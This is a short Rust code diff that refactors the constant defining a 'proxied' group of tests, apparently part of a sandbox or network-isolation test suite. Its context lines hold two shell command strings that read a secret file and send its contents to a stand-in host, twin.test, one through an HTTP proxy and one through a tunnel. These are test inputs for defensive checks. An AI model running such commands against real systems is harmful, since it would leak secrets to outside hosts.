@@ -4,8 +4,7 @@
 
 use crate::row::{Bare::Untried, Group, Row, Sign::Said};
 
-pub(crate) const GROUP: Group =
-    Group { name: "proxied", victim: false, listeners: true, persistence: false, proxied: true, rows: ROWS };
+pub(crate) const GROUP: Group = Group { listeners: true, proxied: true, ..Group::new("proxied", ROWS) };
 
 const GET: &str = r#"printf "GET http://twin.test/%s HTTP/1.1\r\nHost: twin.test\r\nConnection: close\r\n\r\n" $(cat $R/secret) | $P proxy"#;
 const TUNNEL: &str = "$P hello twin.test $(cat $R/secret) | $P tunnel twin.test:443";
